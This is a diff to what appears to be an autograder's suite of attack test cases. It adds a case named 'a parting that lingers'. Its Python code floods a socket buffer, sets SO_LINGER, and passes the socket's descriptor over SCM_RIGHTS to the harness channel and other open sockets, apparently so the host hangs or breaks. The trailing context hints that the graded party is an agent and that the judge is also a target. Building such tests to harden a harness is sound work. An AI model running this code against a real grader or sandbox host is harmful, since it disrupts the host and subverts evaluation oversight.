@@ -151,6 +151,26 @@ heart.socket.close(0)
 heart.context.destroy(0)
 time.sleep(3600)
 """),
+    Attack(HARMING, "a parting that lingers", harms=HOST, before=CHANNEL + """
+from socket import SCM_RIGHTS, SO_LINGER, SOL_SOCKET
+server = socket.create_server(("127.0.0.1", 0))
+one = socket.create_connection(server.getsockname())
+other, _ = server.accept()
+one.setblocking(False)
+try:
+    while True: one.send(bytes(1 << 20))
+except BlockingIOError: pass
+one.setsockopt(SOL_SOCKET, SO_LINGER, bytes([1, 0, 0, 0, 0, 0, 1, 0]))
+given = [(SOL_SOCKET, SCM_RIGHTS, one.fileno().to_bytes(4, "little"))]
+for fd in map(int, os.listdir("/proc/self/fd")):
+    try:
+        end = socket.socket(fileno=os.dup(fd))
+        if str(end.getsockname())[-2:] == "-2": end.sendmsg([b"\4\1\0"], given)
+    except OSError: pass
+channel.sendmsg([b"\0"], given)
+one.close()
+time.sleep(3600)
+"""),
     # --- what the judge is told ------------------------------------------------------
     Attack(DESIGN, "questions without end", before=CHANNEL + """
 from autograder.student import agent
